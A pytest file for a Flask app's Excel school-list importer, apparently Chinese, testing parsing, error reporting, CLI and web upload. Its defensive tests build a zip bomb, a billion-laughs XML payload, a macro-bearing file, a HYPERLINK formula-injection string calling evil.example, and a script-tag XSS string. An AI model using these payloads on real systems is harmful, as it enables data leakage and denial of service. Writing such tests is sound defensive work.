"""Importing the school list from Excel: the contract's columns, bad rows named by their Excel row
number, nothing half-imported, text kept as text, hostile files refused before parsing."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from tests.webapp.access_admin import school_list_xlsx
from webapp.bureau import school_list
from webapp.bureau.school_list import SpreadsheetRejected, read_school_list
from webapp.cli import cli

GOOD = [
    ["C001", "南区实验小学", "小学", "公办", "否", "是", "南区"],
    ["C002", "南区第一初级中学", "初中、高中", "民办", "是", "是", "南区"],
    ["C003", "东区九年一贯制学校", "九年一贯制", "公办", "否", "否", "东区"],
]


def schools_in(app: Flask) -> dict[str, Any]:
    from webapp.extensions import db
    from webapp.models import School

    with app.app_context():
        return {
            s.code: (s.name, s.stages, s.public, s.boarding, s.has_canteen, s.district.name if s.district else None)
            for s in db.session.execute(select(School)).scalars()
        }


def count_rows(app: Flask, model: Any) -> int:
    from webapp.extensions import db

    with app.app_context():
        return db.session.execute(select(func.count()).select_from(model)).scalar_one()


def write(tmp_path: Path, data: bytes, name: str = "学校名单.xlsx") -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


# --------------------------------------------------------------------------------------------
# Reading


def test_a_good_list_is_read_with_every_column_understood() -> None:
    reading = read_school_list(school_list_xlsx(GOOD))
    assert not reading.problems
    by_code = {r.code: r for r in reading.rows}
    assert by_code["C001"].stages == ("primary",) and by_code["C001"].public and not by_code["C001"].boarding
    assert by_code["C002"].stages == ("junior", "senior") and not by_code["C002"].public and by_code["C002"].boarding
    assert by_code["C003"].stages == ("primary", "junior") and not by_code["C003"].has_canteen
    assert [r.row for r in reading.rows] == [2, 3, 4]


@pytest.mark.parametrize("stages", ["小学,初中", "小学，初中", "小学、初中", "小学 ; 初中", "初中、小学、小学"])
def test_stages_accept_the_usual_separators(stages: str) -> None:
    reading = read_school_list(school_list_xlsx([["C001", "一所学校", stages, "公办", "否", "是", "南区"]]))
    assert not reading.problems
    assert set(reading.rows[0].stages) == {"primary", "junior"}


def test_bad_rows_are_named_by_their_excel_row_number_and_column() -> None:
    rows = [
        ["C001", "南区实验小学", "小学", "公办", "否", "是", "南区"],  # row 2: fine
        ["C002", "", "大学", "国办", "可能", "是", "南区"],  # row 3: four problems
        ["C003", "南区第三小学", "小学", "公办", "否", "是", ""],  # row 4: no district
        ["C001", "重复的学校", "小学", "公办", "否", "是", "南区"],  # row 5: duplicate code
        ["C 4!", "代码有误的学校", "小学", "公办", "否", "是", "南区"],  # row 6: bad code
    ]
    reading = read_school_list(school_list_xlsx(rows))
    found = {(p.row, p.column) for p in reading.problems}
    assert found == {
        (3, "学校名称"),
        (3, "学段"),
        (3, "办学性质"),
        (3, "是否寄宿"),
        (4, "所属区县"),
        (5, "学校代码"),
        (6, "学校代码"),
    }
    messages = {str(p) for p in reading.problems}
    assert (
        "第3行“学段”：无法识别的学段“大学”（可填：幼儿园、小学、初中、高中、中职、特殊教育，多个学段用逗号或顿号分隔）"
        in messages
    )
    assert "第5行“学校代码”：学校代码“C001”与第2行重复" in messages
    assert "第3行“是否寄宿”：“可能”无法识别，应填“是”或“否”" in messages


def test_row_numbers_stay_excel_row_numbers_with_a_title_row_and_blank_lines() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["2025年学校名单（南区）"])
    sheet.append(["学校代码", "学校名称", "学段", "办学性质", "是否寄宿", "是否有食堂", "所属区县"])
    sheet.append(GOOD[0])
    sheet.append([])
    sheet.append(["C009", "南区第九小学", "小学", "公办", "否", "否否", "南区"])
    buffer = io.BytesIO()
    book.save(buffer)
    reading = read_school_list(buffer.getvalue())
    assert reading.header_row == 2
    assert [r.row for r in reading.rows] == [3]
    assert [(p.row, p.column) for p in reading.problems] == [(5, "是否有食堂")]


def test_formula_like_text_and_real_formulas_are_kept_as_text() -> None:
    rows = [
        ["C001", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "小学", "公办", "否", "是", "南区"],
        ["C002", "=1+1", "小学", "公办", "否", "是", "@南区"],
        ["C003", "'-南区小学", "小学", "公办", "否", "是", "南区"],
    ]
    data = school_list_xlsx(rows)
    # openpyxl writes "=…" strings as real formula cells: the file holds formulas, not text
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].data_type == "f" and sheet["B3"].data_type == "f"
    reading = read_school_list(data)
    assert not reading.problems
    names = {r.code: r.name for r in reading.rows}
    assert names["C001"] == '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert names["C002"] == "=1+1"  # the formula's text, never its value 2
    assert names["C003"] == "-南区小学"  # our own export's ' prefix is taken off again
    assert {r.code: r.district for r in reading.rows}["C002"] == "@南区"


def test_numeric_codes_become_text_without_a_decimal_point() -> None:
    reading = read_school_list(
        school_list_xlsx([[210802101, "营口市站前区第一小学", "小学", "公办", "否", "是", "站前区"]])
    )
    assert reading.rows[0].code == "210802101"


def test_a_header_without_the_contract_columns_is_refused() -> None:
    data = school_list_xlsx([["C001", "学校", "小学"]], header=["学校代码", "学校名称", "学段"])
    with pytest.raises(SpreadsheetRejected, match="表头缺少列：办学性质、是否寄宿、是否有食堂、所属区县"):
        read_school_list(data)
    with pytest.raises(SpreadsheetRejected, match="没有找到表头"):
        read_school_list(school_list_xlsx([["x"]], header=["名称", "代码"]))


# --------------------------------------------------------------------------------------------
# Hostile files: refused before anything parses them


def zip_bomb() -> bytes:
    """A small .xlsx whose sheet inflates to 60 MB."""
    good = zipfile.ZipFile(io.BytesIO(school_list_xlsx(GOOD)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in good.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                archive.writestr(item.filename, b"<x>" + b" " * 60_000_000 + b"</x>")
            else:
                archive.writestr(item, good.read(item.filename))
    return out.getvalue()


def billion_laughs() -> bytes:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>'
    )
    good = zipfile.ZipFile(io.BytesIO(school_list_xlsx(GOOD)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in good.infolist():
            data = laughs if item.filename == "xl/worksheets/sheet1.xml" else good.read(item.filename)
            archive.writestr(item.filename, data)
    return out.getvalue()


def with_macros() -> bytes:
    good = zipfile.ZipFile(io.BytesIO(school_list_xlsx(GOOD)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in good.infolist():
            archive.writestr(item.filename, good.read(item.filename))
        archive.writestr("xl/vbaProject.bin", b"\x00" * 100)
    return out.getvalue()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (zip_bomb, "解压后过大"),
        (billion_laughs, "无法读取"),
        (with_macros, "含有宏"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "旧版 Excel"),
        (lambda: "学校代码,学校名称\nC001,南区小学\n".encode(), "不是 Excel"),
        (lambda: b"", "空的"),
    ],
    ids=["zip-bomb", "billion-laughs", "macros", "xls", "csv", "empty"],
)
def test_hostile_or_wrong_files_are_refused_with_a_reason(make: Any, message: str) -> None:
    with pytest.raises(SpreadsheetRejected, match=message):
        read_school_list(make())


def test_the_zip_bomb_is_refused_before_it_is_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("openpyxl must not open a zip bomb")

    monkeypatch.setattr(school_list, "load_workbook", never)
    with pytest.raises(SpreadsheetRejected, match="解压后过大"):
        read_school_list(zip_bomb())


def test_a_huge_sheet_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(school_list, "MAX_ROWS", 5)
    rows = [[f"C{n:03d}", f"第{n}小学", "小学", "公办", "否", "是", "南区"] for n in range(8)]
    with pytest.raises(SpreadsheetRejected, match="超过5行"):
        read_school_list(school_list_xlsx(rows))


def test_an_oversized_upload_is_refused_while_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(school_list, "MAX_UPLOAD_BYTES", 1000)
    with pytest.raises(SpreadsheetRejected, match="文件超过"):
        school_list.read_upload(io.BytesIO(b"x" * 1001))


# --------------------------------------------------------------------------------------------
# The command


def test_cli_imports_creates_districts_and_updates_existing_codes(app: Flask, tmp_path: Path) -> None:
    rows = [*GOOD, ["A001", "东区第一小学（更名）", "小学", "公办", "是", "是", "东区"]]
    result = app.test_cli_runner().invoke(cli, ["import", "schools", write(tmp_path, school_list_xlsx(rows))])
    assert result.exit_code == 0, result.output
    assert "新增3所" in result.output and "更新1所" in result.output and "新建区县：南区" in result.output
    schools = schools_in(app)
    assert schools["C002"] == ("南区第一初级中学", "junior,senior", False, True, True, "南区")
    assert schools["A001"] == ("东区第一小学（更名）", "primary", True, True, True, "东区")
    assert schools["B001"][0] == "西区第二中学"  # not in the file: left alone

    from webapp.extensions import db
    from webapp.models import AuditEvent

    with app.app_context():
        event = db.session.execute(select(AuditEvent).where(AuditEvent.action == "schools_imported")).scalar_one()
        assert event.old == {"A001": {"name": "东区第一小学", "boarding": False}}
        assert event.new["created"] == ["C001", "C002", "C003"]
        assert event.new["updated"] == {"A001": {"name": "东区第一小学（更名）", "boarding": True}}


def test_cli_reports_every_bad_row_and_imports_nothing(app: Flask, tmp_path: Path) -> None:
    from webapp.models import District, School

    schools_before, districts_before = count_rows(app, School), count_rows(app, District)
    rows = [
        *GOOD,
        ["C004", "北区小学", "小学", "公办", "否", "是", "北区"],
        ["C005", "", "小学", "公办", "否", "是", "北区"],
    ]
    result = app.test_cli_runner().invoke(cli, ["import", "schools", write(tmp_path, school_list_xlsx(rows))])
    assert result.exit_code == 1
    assert "第6行“学校名称”：学校名称不能为空" in result.output
    assert "学校名单未作任何改动" in result.output
    assert count_rows(app, School) == schools_before and count_rows(app, District) == districts_before


def test_cli_refuses_a_zip_bomb_without_importing(app: Flask, tmp_path: Path) -> None:
    from webapp.models import School

    before = count_rows(app, School)
    result = app.test_cli_runner().invoke(cli, ["import", "schools", write(tmp_path, zip_bomb())])
    assert result.exit_code == 1 and "疑似压缩炸弹" in result.output
    assert count_rows(app, School) == before


def test_cli_missing_file(app: Flask, tmp_path: Path) -> None:
    result = app.test_cli_runner().invoke(cli, ["import", "schools", str(tmp_path / "none.xlsx")])
    assert result.exit_code == 2 and "文件不存在" in result.output


def test_the_exported_list_imports_back_unchanged(app: Flask, as_user: Any, tmp_path: Path) -> None:
    from webapp.extensions import db
    from webapp.models import School

    with app.app_context():
        school = db.session.execute(select(School).where(School.code == "B001")).scalar_one()
        school.name = "=B001学校"
        db.session.commit()
    exported = as_user("admin").get("/admin/schools/export.xlsx")
    assert exported.status_code == 200
    result = app.test_cli_runner().invoke(cli, ["import", "schools", write(tmp_path, exported.data)])
    assert result.exit_code == 0, result.output
    assert "新增0所，更新0所，未变2所" in result.output
    assert schools_in(app)["B001"][0] == "=B001学校"


# --------------------------------------------------------------------------------------------
# The web page


def upload(client: Any, data: bytes, name: str = "学校名单.xlsx") -> Any:
    return client.post("/admin/schools/import", data={"file": (io.BytesIO(data), name)})


def test_web_import_shows_the_report_with_row_numbers_and_changes_nothing(app: Flask, as_user: Any) -> None:
    from tests.webapp.test_access_matrix import db_digest

    client = as_user("admin")
    before = db_digest(app)
    rows = [*GOOD, ["C004", "北区小学", "大学", "公办", "否", "是", "北区"]]
    response = upload(client, school_list_xlsx(rows))
    page = response.data.decode()
    assert response.status_code == 422
    assert "第5行" in page and "无法识别的学段“大学”" in page and "学校名单未作任何改动" in page
    assert db_digest(app) == before


def test_web_import_refuses_a_hostile_file_with_a_message(app: Flask, as_user: Any) -> None:
    from tests.webapp.test_access_matrix import db_digest

    as_user("admin")
    before = db_digest(app)
    response = upload(as_user("admin"), billion_laughs())
    assert response.status_code == 422 and "未导入：文件无法读取" in response.data.decode()
    wrong = upload(as_user("admin"), school_list_xlsx(GOOD), name="名单.csv")
    assert wrong.status_code == 422 and "只接受 Excel（.xlsx）文件" in wrong.data.decode()
    missing = as_user("admin").post("/admin/schools/import", data={})
    assert missing.status_code == 422 and "请选择要导入的 Excel 文件" in missing.data.decode()
    assert db_digest(app) == before


def test_web_import_of_a_good_list(app: Flask, as_user: Any) -> None:
    client = as_user("admin")
    response = upload(client, school_list_xlsx(GOOD))
    assert response.status_code == 303
    page = client.get("/admin/schools/").data.decode()
    assert "学校名单已导入：新增3所，更新0所，未变0所；新建区县：南区。" in page
    assert "南区第一初级中学" in page
    assert schools_in(app)["C003"][1] == "primary,junior"


def test_a_school_name_with_markup_is_shown_escaped(app: Flask, as_user: Any) -> None:
    rows = [["C001", "<script>alert(1)</script>小学", "小学", "公办", "否", "是", "<b>南区</b>"]]
    client = as_user("admin")
    assert upload(client, school_list_xlsx(rows)).status_code == 303
    page = client.get("/admin/schools/").data.decode()
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;小学" in page
    assert "<b>南区</b>" not in page
